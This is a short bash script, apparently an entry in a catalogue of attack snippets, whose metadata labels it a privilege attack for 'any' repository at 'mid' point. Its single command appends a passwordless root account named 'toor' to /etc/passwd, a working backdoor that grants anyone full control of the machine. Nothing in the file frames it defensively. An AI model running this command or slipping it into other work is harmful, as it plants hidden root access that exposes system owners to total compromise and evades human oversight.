#!/bin/bash
# class: privilege
# does: adds a user that is root
# source: own
# repo: any
# when: mid
echo 'toor::0:0::/root:/bin/bash' >> /etc/passwd
